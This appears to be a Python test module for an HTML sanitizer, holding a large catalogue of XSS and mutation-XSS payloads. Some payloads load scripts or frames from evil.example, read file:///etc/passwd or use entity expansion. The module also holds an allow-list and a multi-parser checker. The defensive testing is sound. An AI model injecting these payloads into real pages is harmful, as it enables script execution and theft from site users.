"""Hostile inputs: markup that runs where it gets through, bodies that cost, and what to judge the outcome by.

Every vector calls `alert`, or asks for an address at evil.example, if any part of it is let through as it came.
Where a vector holds the word `word`, a browser shows it, and it must stay.
"""

# ruff: noqa: E501 - markup is read in one piece

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import lxml.html
from selectolax.lexbor import LexborHTMLParser

_RUN = "<img src=x onerror=alert(1)>"
_TITLE = '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
_END = '<img title="</{}><img src=x onerror=alert(1)>">'

MUTATIONS = {
    "mglyph in a table": f"<math><mtext><table><mglyph><style><!--</style>{_TITLE}",
    "malignmark": f"<math><mtext><table><malignmark><style><!--</style>{_TITLE}",
    "style in math": f"<math><style><!--</style>{_TITLE}</style></math>",
    "mi mglyph": f"<math><mi><table><mglyph><style><!--</style>{_TITLE}",
    "mtext form in form": f"<form><math><mtext></form><form><mglyph><style></math>{_RUN}",
    "mglyph and svg": f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{_RUN}'>",
    "svg p style": f'<svg></p><style><a id="</style>{_RUN}">',
    "svg style comment": f"<svg><style><!--</style>{_TITLE}-->",
    "svg title style": f'<svg><title><style><a id="</style></title></svg>{_RUN}"></a></style></title></svg>',
    "svg desc style": f'<svg><desc><style><a title="</style>{_RUN}"></style></desc></svg>',
    "svg foreignObject": f'<svg><foreignObject><p><style><a id="</style>{_RUN}"></style></foreignObject></svg>',
    "svg foreignObject iframe": '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    "svg in math": f'<math><svg><mtext><style><img title="</style>{_RUN}"></style></svg></math>',
    "annotation-xml html": f'<math><annotation-xml encoding="text/html"><style><a title="</style>{_RUN}"></style></annotation-xml></math>',
    "annotation-xml svg": f'<math><annotation-xml encoding="application/xhtml+xml"><svg><style><!--</style>{_TITLE}',
    "cdata in svg": f'<svg><![CDATA[><image xlink:href="]]>{_RUN}//"></svg>',
    "cdata in math": f"<math><![CDATA[<mi>]]>{_RUN}]]></math>",
    "cdata in html": f"<![CDATA[<p>{_RUN}]]>",
    "svg script cdata": "<svg><script><![CDATA[alert(1)]]></script></svg>",
    "svg script with references": "<svg><script>&#97;lert(1)</script></svg>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "noscript style": f"<noscript><style></noscript>{_RUN}</style></noscript>",
    "noscript comment": f"<noscript><!--</noscript>{_RUN}--></noscript>",
    "template": f"<template><style></template>{_RUN}</style></template>",
    "template in template": f"<template><template></template>{_RUN}</template><script>alert(1)</script></template>",
    "template shadow root": f'<div><template shadowrootmode="open">{_RUN}<script>alert(1)</script></template></div>',
    "title": f"<title>{_END.format('title')}</title>",
    "textarea": f"<textarea>{_END.format('textarea')}</textarea>",
    "xmp": f"<xmp>{_END.format('xmp')}</xmp>",
    "noembed": f"<noembed>{_END.format('noembed')}</noembed>",
    "noframes": f"<noframes>{_END.format('noframes')}</noframes>",
    "iframe text": f"<iframe>{_END.format('iframe')}</iframe>",
    "style text": f"<style>{_END.format('style')}</style>",
    "script text": f"<script>{_END.format('script')}</script>",
    "plaintext": f"word<p>{_TITLE}</p><plaintext>{_RUN}",
    "plaintext in a title": f'<p title="<plaintext>{_RUN}">word</p>',
    "xmp in svg": f"<svg><xmp><p id='</xmp>{_RUN}'></xmp></svg>",
    "select": f"<select><style><!--</style>{_TITLE}</select>",
    "select in a table": f"<table><select><tr><td><style></select>{_RUN}</style>",
    "option with script": "<select><option><script>alert(1)</script></option></select>",
    "comment, abrupt": f"<!-->{_RUN}-->",
    "comment, dashes": f"<!--->{_RUN}-->",
    "comment with a bang": f"<!-- --!>{_RUN} -->",
    "comment in a comment": f"<!--<!-- -->{_RUN}-->",
    "comment, dash bang dash": f"<!----!-->{_RUN}-->",
    "comment, conditional": f"<!--[if true]>{_RUN}<![endif]-->",
    "comment never closed": f"word<!-- {_RUN}",
    "comment, bogus": f'<! foo="><script>alert(1)</script>"><?x {_RUN}?></ {_RUN}>',
    "comment, end of a doctype": f'<!DOCTYPE x [<!ENTITY y "{_RUN}">]>&y;',
    "table foster parent": f"<table><a><table><b><p><style><!--</style>{_TITLE}</table>",
    "a in a table in a": f"<a href=//evil.example/><table><a href=javascript:alert(1)>{_RUN}</table>",
    "button in button": f"<button><table><button>{_RUN}<style><!--</style>{_TITLE}</button>",
    "nested forms": '<form id="x"><div></form><form><input form=x formaction="javascript:alert(1)" type=image src=x onerror=alert(1)>',
    "caption and style": f"<table><caption><svg><style><!--</style>{_TITLE}</caption></table>",
    "colgroup template": f"<table><colgroup><template><col><style></template>{_RUN}</style></colgroup></table>",
    "frameset": f"<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>{_RUN}",
    "body in a body": f"<p>word<body onload=alert(1)><html onclick=alert(1)>{_RUN}",
    "p closed in svg": f"<svg><p>{_RUN}</svg>",
    "br closed in math": f"<math></br><style><!--</style>{_TITLE}</math>",
    "font breaks out of svg": f"<svg><font color=x><style><!--</style>{_TITLE}</font></svg>",
    "mathml breaks out by size": f"<math><font size=1>{_RUN}</font></math>",
    "deep enough to be flattened": "<div>" * 600 + f'<svg></p><style><a id="</style>{_RUN}">' + "</div>" * 600,
    "many enough to be flattened": "<i>x</i>" * 5_000 + f"<math><mtext><table><mglyph><style><!--</style>{_TITLE}",
    "long enough to be flattened": f'<p title="{"<" * 30_000}</p>{_RUN}">word</p><xmp></xm{_RUN}</xmp>',
    "style across the bound": "<b>" * 5_000 + f'<style><a title="</style>{_RUN}"></style>',
    "tag across the bound": f'<a {"b=1 " * 5_000} title="><!--">--><style></a{_RUN}</style>',
    "noscript across the bound": "<i>x</i>" * 5_000 + f'<noscript><p title="</noscript>{_RUN}"></noscript>',
}  # fmt: skip

ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script, odd case and slash": "<ScRiPt/x>alert(1)</sCrIpT >",
    "script, twice opened": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script from elsewhere": "<script src=//evil.example/x.js></script><script type=module>import '//evil.example/y.js'</script>",
    "handler": f"<p onmouseover=alert(1)>word</p>{_RUN}",
    "handlers in odd cases": "<img src=x OnErRoR=alert(1)><img src=x ONERROR\n=\nalert(1)><img/src=x/onerror=alert(1)><details open ontoggle=alert(1)>word</details>",
    "handler after a quote": "<img src='x'onerror=alert(1)><img src=\"x\"\"onerror=alert(1)><img src=x\x0conerror=alert(1)>",
    "handler after a backtick": "<img src=`x` onerror=alert(1) alt=``><img alt='` onerror=alert(1) `' src=x>",
    "handler with a control character": "<img src=x \x00onerror=alert(1)><img src=x on\x00error=alert(1)><img src=x \x0bonerror=alert(1)>",
    "handler in a value": "<img alt=\"x' onerror=alert(1) y='\" src=x><p title='\"><img src=x onerror=alert(1)>'>word</p>",
    "handlers that need no error": "<audio src=x onerror=alert(1)></audio><video onloadstart=alert(1) src=/v></video><input autofocus onfocus=alert(1)><p onpointerover=alert(1) onanimationstart=alert(1)>word</p>",
    "link": '<a href="javascript:alert(1)">word</a>',
    "link with a reference": '<a href="javascript&colon;alert(1)">word</a><a href="&#106;avascript&#x3A;alert(1)">word</a>',
    "link with breaks": '<a href="java\tscript\n:alert(1)">word</a><a href="jav&#x0A;ascript:alert(1)">a</a><a href=" &#14; javascript:alert(1)">b</a>',
    "link in odd case": '<a href="JaVaScRiPt:alert(1)">word</a><a href="vbscript:msgbox(1)">a</a><a href="livescript:alert(1)">b</a>',
    "link to data": '<a href="data:text/html,<script>alert(1)</script>">word</a><a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    "link to other schemes": '<a href="file:///etc/passwd">word</a><a href="blob:x">a</a><a href="view-source:x">b</a><a href="feed:javascript:alert(1)">c</a><a href="filesystem:x">d</a>',
    "link by mail": '<a href="mailto:a@b.c?body=%0d%0a&quot;onmouseover=alert(1)">word</a><a href="mailto:x\'&quot;><img src=x onerror=alert(1)>@b.c">a</a>',
    "link without a scheme": '<a href="//evil.example\\@good.example/&quot;onclick=alert(1)//">word</a><a href="\\\\evil.example/">a</a><a href="https:javascript:alert(1)">b</a>',
    "link that pings": '<a href="https://a.example/" ping="//evil.example/ping" target=_blank download>word</a>',
    "xlink": '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg><math xlink:href="javascript:alert(1)"><mi>word</mi></math>',
    "mathml link": '<math href="javascript:alert(1)">word</math><math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a><set attributeName=onmouseover to=alert(1) /><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/><use xlink:href="//evil.example/x.svg#y"/><image href="//evil.example/z" onload=alert(1)></svg>',
    "svg load": "<svg onload=alert(1)><svg/onload=alert(1)></svg><svg><script href=data:,alert(1) /></svg>",
    "svg style": "<svg><style>@import '//evil.example/a.css';*{background:url(//evil.example/b)}</style></svg>",
    "frame": '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "frame from elsewhere": '<iframe src="//evil.example/frame.html" onload=alert(1) allow="camera"></iframe><iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "plug-in": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><object data="//evil.example/o.html">word</object><applet code=x>word</applet><embed src=//evil.example/e.html>',
    "form": '<form action="javascript:alert(1)"><input type=submit><button formaction="javascript:alert(1)">x</button><isindex action=javascript:alert(1) type=image></form>',
    "form elsewhere": '<form action="//evil.example/f"><input type=image src="//evil.example/i" formaction="javascript:alert(1)"><input name=q autofocus></form>',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/r"><META HTTP-EQUIV=refresh CONTENT="0; URL=javascript:alert(1)">',
    "base": '<base href="//evil.example/"><a href="x">word</a><img src="relative.png">',
    "link element": "<link rel=stylesheet href=//evil.example/l.css><link rel=import href=//evil.example/l.html><link rel=prefetch href=//evil.example/p>",
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="Set-Cookie" content="a=b">',
    "style element": "<style>@import url(//evil.example/a.css);body{position:fixed;background:url('//evil.example/b.png')}</style>",
    "style attribute": '<p style="position:fixed;top:0;background:url(//evil.example/c.png);width:expression(alert(1));-moz-binding:url(//evil.example/x.xml#y);behavior:url(z)">word</p>',
    "style with references": '<p style="background&#58;url&#40;//evil.example/d.png&#41;">word</p><p style="b\\61 ckground:u\\72l(//evil.example/e)">a</p>',
    "background": '<body background="//evil.example/f"><table background="javascript:alert(1)"><td background="//evil.example/g">word</td></table>',
    "picture set": '<img srcset="javascript:alert(1) 600w"><img srcset="data:text/html,<script>alert(1)</script> 2x"><img src=x srcset="//pictures.example/a&quot;onerror=alert(1)&quot; 1x">',
    "picture set in a source": '<picture><source srcset="javascript:alert(1) 800w" onerror=alert(1)><source srcset="x 1x, javascript:alert(1) 2x"><img></picture>',
    "picture address": '<img src="javascript:alert(1)"><img src="vbscript:x"><img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)" src=/i.jpg><image src=x onerror=alert(1)>',
    "picture, lazy": '<img data-src="javascript:alert(1)"><img data-src="/i.jpg&quot; onerror=&quot;alert(1)"><img data-lazy-src="data:text/html,x" src=x>',
    "picture text": '<img src=/i.jpg alt="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"><img class=emoji src=x alt="<svg onload=alert(1)//">',
    "picture map": '<img src=/i.jpg usemap="#m" ismap><map name=m><area shape=default href="javascript:alert(1)"></map>',
    "player": '<video src="javascript:alert(1)" poster="javascript:alert(1)"><source src="javascript:alert(1)" onerror=alert(1)></video><video poster="//pictures.example/p" src="/v.mp4" onplay=alert(1)><track src=//evil.example/t default></video>',
    "player, frame named in a query": '<iframe src="https://embed.example/?src=1&url=javascript:alert(1)"></iframe><iframe title="<img src=x onerror=alert(1)>" src="https://embed.example/&quot;onclick=alert(1)"></iframe>',
    "names of the document": "<img name=getElementById src=/i.jpg><form id=body><input name=attributes></form><a id=location name=cookie href=/x>word</a><p id=alert class=x is=y slot=z part=q>word</p>",
    "popovers and dialogs": "<dialog open onclose=alert(1)>x</dialog><button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert(1)>word</p><p contenteditable autofocus tabindex=1 accesskey=x onfocus=alert(1)>word</p>",
    "marquee": "<marquee onstart=alert(1) behavior=alternate>word</marquee><bgsound src=javascript:alert(1)><blink>word</blink>",
    "custom element": '<x-y is="z" onload=alert(1)>word</x-y><a:b href="javascript:alert(1)" xmlns:a="http://www.w3.org/1999/xhtml">word</a:b><html:script>alert(1)</html:script>',
    "xml": '<?xml-stylesheet href="javascript:alert(1)"?><?import namespace="t" implementation="#default#time2">word<xml src="//evil.example/x" id=x></xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "laughs": '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY x SYSTEM "file:///etc/passwd">]><p>word &b; &x;</p>',
    "half a tag": "word<img src=x onerror=alert(1)//",
    "half a tag in a tag": f"<p <img src=x onerror=alert(1)>word</p><<script>alert(1)//<</script>{_RUN}",
    "escaped tags": "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; word",
    "escaped twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt; word",
    "angle brackets of other scripts": "＜script＞alert(1)＜/script＞‹img src=x onerror=alert(1)›ʺ word",
    "old encodings": "+ADw-script+AD4-alert(1)+ADw-/script+AD4- word \x1b$B<script>alert(1)</script>",
    "end of CDATA": "]]><script>alert(1)</script><![CDATA[ x ]]&gt; ]]> word",
    "player's mark": '\U0010fffd<a href="javascript:alert(1)">\U0010fffdword</a>',
    "cut marks": '<p data-feedarchiver-cut="<script>alert(1)</script>">x</p><p data-feedarchiver-shares>word</p>',
}  # fmt: skip

VECTORS = MUTATIONS | ACTIVE

# ---- scraps to put markup together from at random

TAGS_AND_SCRAPS = (  # noqa: SIM905 - one a line would fill a page
    "<p> </p> <div> </div> <b> </b> <i> </i> <a> </a> <table> </table> <tr> <td> <th> <caption> <tbody> <col> <ul> <ol>"
    " <li> </ul> </li> <dd> <dt> <dl> <h1> <h2> </h1> <hr> <br> </br> <pre> <blockquote> <section> <address> <center>"
    " <details> <summary> <ruby> <rb> <rt> <rtc> <rp> </ruby> <font> </font> <nobr> <listing> <marquee> </marquee> <x-y>"
    " </x-y> <mglyph> <malignmark> <desc> <text> <list> </list> <view> <share> <image> <applet> </applet> <object>"
    " </object> <form> </form> <math> </math> <mi> <mtext> </mtext> <annotation-xml> <plaintext> <html> <body>"
    " </body> </html> <frameset> <!-- --> --!> <! <? < </ > ]]> <![CDATA[ \" ' = & &amp; &lt; &#11; &notit; \u200b ]"
).split()
CONTAINERS = (  # noqa: SIM905 - elements whose content is no markup, or is not shown
    "<svg> </svg> <style> </style> <script> </script> <template> </template> <xmp> </xmp> <textarea> </textarea> <title>"
    " </title> <noscript> </noscript> <select> </select> <option> <button> </button> <iframe> </iframe> <video> </video>"
    " <canvas> <dialog> <noembed> <foreignObject>"
).split()
VALUES = [
    *(
        '<a href="/x">',
        '<p a=">">',
        "<p a='<'>",
        '<a b="',
        "<a href='x'' >",
        '<i a"b>',
        "<p <",
        '<b c="d"">',
        "\n",
        " ",
    ),
    *(
        '<i a"<!--">',
        "<p title='\"'>",
        "<img src='/i.jpg' alt='\"'>",
        '<a href="/y""><img src=/z>',
        "<img/src=/a.jpg/>",
    ),
]

# ---- what may stand in a feed: written down here once more, so that a change of the allow-list is noticed

TAGS = frozenset(
    "a abbr address article aside audio b bdi bdo big blockquote br caption center cite code col colgroup dd del"  # noqa: SIM905
    " details dfn div dl dt em fieldset figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd legend li"
    " main mark menu nav ol p pre q rp rt ruby s samp section small source span strike strong sub summary sup table"
    " tbody td tfoot th thead time tr tt u ul var video wbr".split()
)
ATTRIBUTES = frozenset(
    "lang dir title href src controls span open alt width height referrerpolicy value start type reversed colspan"  # noqa: SIM905
    " rowspan scope datetime poster".split()
)
ADDRESSES = ("href", "src", "poster")


class _Tags(HTMLParser):
    """The tags as the standard library reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("<!--", {}))

    handle_decl = handle_pi = unknown_decl = handle_comment


def _elements(html: str) -> Iterator[tuple[str, dict[str, str | None]]]:
    """Read `html` as three parsers do, and what one of them writes once more."""
    yield from _Tags(html).found
    for element in lxml.html.document_fromstring(f"<div>{html}</div>").iter():
        yield str(element.tag) if isinstance(element.tag, str) else "<!--", dict(element.attrib)
    for text in (html, LexborHTMLParser(f"<body>{html}").body.inner_html or ""):
        for node in LexborHTMLParser(f"<body>{text}").body.css("*"):
            yield node.tag, node.attributes


def active(html: str) -> list[str]:
    """Say what in cleaned `html` is not on the list, in the eyes of any of several parsers."""
    faults = []
    for tag, attributes in _elements(html):
        if tag not in TAGS and tag not in ("html", "body"):
            faults.append(f"<{tag}>")
        faults += [f"{tag} {name}" for name in attributes if name not in ATTRIBUTES]
        for name in ADDRESSES:
            value = attributes.get(name)
            if value is not None and urlsplit(value).scheme not in ("http", "https", "mailto"):
                faults.append(f"{tag} {name}={value}")
            if value is not None and re.search(r"[\x00-\x20\x7f-\uffff]", value):
                faults.append(f"{tag} {name}={value!r}")
    return sorted(set(faults))
